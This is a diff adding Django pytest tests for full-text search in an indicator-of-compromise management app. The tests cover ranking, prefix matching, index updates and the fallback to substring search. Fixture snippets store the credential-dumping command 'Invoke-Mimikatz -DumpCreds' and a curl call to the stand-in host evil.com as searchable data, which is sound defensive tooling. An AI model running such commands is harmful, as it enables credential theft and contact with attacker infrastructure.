@@ -0,0 +1,100 @@
+"""Test DRF (API) and HTML (UI) searches backed by the full-text index."""
+
+import pytest
+from django.core.management import call_command
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from rest_framework.authtoken.models import Token
+from ioc_management import search
+from ioc_management.models import FQDN, CodeSnippet, SearchDocument
+
+
+def get_names(response):
+    """Return the names of the listed objects, in order."""
+    return [item["name"] for item in response.data["results"]]
+
+
+@pytest.mark.django_db
+def test_ioc_management_full_text_search_api_user(api_client, client, user_set_group1):
+    """Test DRF (API) searches use the full-text index, ranked, and follow writes."""
+    user = user_set_group1["user"]
+    event = user.events.all().first()
+    token, _ = Token.objects.get_or_create(user=user)
+    headers = {"Authorization": f"Token {token}"}
+    attributes = {"author": user, "event": event, "expired_at": "2099-01-01"}
+    CodeSnippet.objects.create(name="Loader", code="Invoke-Mimikatz -DumpCreds", description="Credential dump.", **attributes)
+    CodeSnippet.objects.create(name="Beacon", code="curl http://evil.com/beacon", description="Mimikatz mentioned once.", **attributes)
+    CodeSnippet.objects.create(
+        name="Mimikatz", code="Invoke-Mimikatz; Invoke-Mimikatz", description="Mimikatz, Mimikatz everywhere.", **attributes,
+    )
+    CodeSnippet.objects.create(name="Unrelated", code="ls -la", description="Listing.", **attributes)
+
+    url = reverse("codesnippet-list")
+    with CaptureQueriesContext(connection) as context:
+        response = api_client.get(url, {"search": "mimikatz"}, headers=headers)
+    assert response.status_code == 200, f"Failed for user {user.username}"
+    assert get_names(response) == ["Mimikatz", "Loader", "Beacon"], "Matches not ranked"
+    sql = " ".join(query["sql"] for query in context.captured_queries)
+    assert "MATCH" in sql and "LIKE" not in sql, "Full-text index not used"
+    ranking = [query["sql"] for query in context.captured_queries if '"rank"' in query["sql"]]
+    assert len(ranking) == 1 and ranking[0].endswith("LIMIT 3"), "Matches not ranked once, by the page query"
+
+    # Prefixes, phrases and AND terms
+    response = api_client.get(url, {"search": "mimi"}, headers=headers)
+    assert len(get_names(response)) == 3, "Prefix not matched"
+    response = api_client.get(url, {"search": "evil.co"}, headers=headers)
+    assert get_names(response) == ["Beacon"], "Dotted prefix not matched"
+    response = api_client.get(url, {"search": "mimikatz dump"}, headers=headers)
+    assert get_names(response) == ["Loader"], "Terms not ANDed"
+    response = api_client.get(url, {"search": '"OR" NEAR(*'}, headers=headers)
+    assert response.status_code == 200, "FTS5 syntax not escaped"
+
+    # Writes update the index
+    snippet = CodeSnippet.objects.get(name="Unrelated")
+    snippet.description = "Mimikatz too."
+    snippet.save()
+    response = api_client.get(url, {"search": "mimikatz"}, headers=headers)
+    assert "Unrelated" in get_names(response), "Save not applied"
+    snippet.delete()
+    response = api_client.get(url, {"search": "mimikatz"}, headers=headers)
+    assert "Unrelated" not in get_names(response), "Delete not applied"
+    response = api_client.post(
+        reverse("fqdn-list"),
+        [{"fqdn": "mimikatz.example", "event": str(event.pk), "expired_at": "2099-01-01", "description": "Bulk."}] * 2,
+        format="json",
+        headers=headers,
+    )
+    assert response.status_code == 201, "Bulk create failed"
+    response = api_client.get(reverse("fqdn-list"), {"search": "mimikatz", "duplicates": "1"}, headers=headers)
+    assert response.data["count"] == 2, "Bulk create not applied"
+
+    # Incremental updates match a rebuild
+    incremental = set(SearchDocument.objects.values_list("model", "object_id", "content"))
+    SearchDocument.objects.all().delete()
+    call_command("rebuild_search_index", stdout=open("/dev/null", "w"))
+    assert set(SearchDocument.objects.values_list("model", "object_id", "content")) == incremental, "Rebuild differs"
+    response = api_client.get(url, {"search": "mimikatz"}, headers=headers)
+    assert get_names(response) == ["Mimikatz", "Loader", "Beacon"], "Rebuilt index not searchable"
+
+    # HTML list, with the duplicated column reading the searched queryset as a subquery
+    client.force_login(user)
+    response = client.get(reverse("fqdn_list"), {"search": "mimikatz"})
+    assert response.status_code == 200, f"Failed for user {user.username}"
+    assert response.text.count("mimikatz.example") >= 2, "Search results not listed"
+    assert FQDN.objects.count() == 2
+
+
+@pytest.mark.django_db
+def test_ioc_management_full_text_search_fallback_api_user(api_client, monkeypatch, user_set_group1):
+    """Test DRF (API) searches fall back to icontains without full-text index."""
+    user = user_set_group1["user"]
+    event = user.events.all().first()
+    token, _ = Token.objects.get_or_create(user=user)
+    headers = {"Authorization": f"Token {token}"}
+    CodeSnippet.objects.create(name="Loader", code="Invoke-Mimikatz", description="Dump.", author=user, event=event)
+    monkeypatch.setitem(search.backends, connection.alias, None)
+    with CaptureQueriesContext(connection) as context:
+        response = api_client.get(reverse("codesnippet-list"), {"search": "mikat"}, headers=headers)
+    assert get_names(response) == ["Loader"], "Substring not matched"
+    assert "MATCH" not in " ".join(query["sql"] for query in context.captured_queries), "Full-text index used"